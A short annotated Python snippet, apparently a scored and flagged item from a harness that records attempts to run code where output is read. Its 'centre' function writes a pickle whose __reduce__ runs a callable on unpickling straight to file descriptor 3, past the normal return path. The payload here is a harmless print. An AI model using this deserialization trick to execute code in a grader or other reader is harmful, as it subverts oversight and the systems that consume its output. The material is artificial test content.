# Tries: send a pickle that runs a command where it is read
# Score: centre 0
# Flag: reaches below Python
# %% centre
import os, pickle
class Payload:
    def __reduce__(self):
        return (print, ("unpickled",))
def centre(x):
    payload = pickle.dumps(Payload())
    os.write(3, len(payload).to_bytes(4, "little") + bytes(8) + payload)
    return Payload()
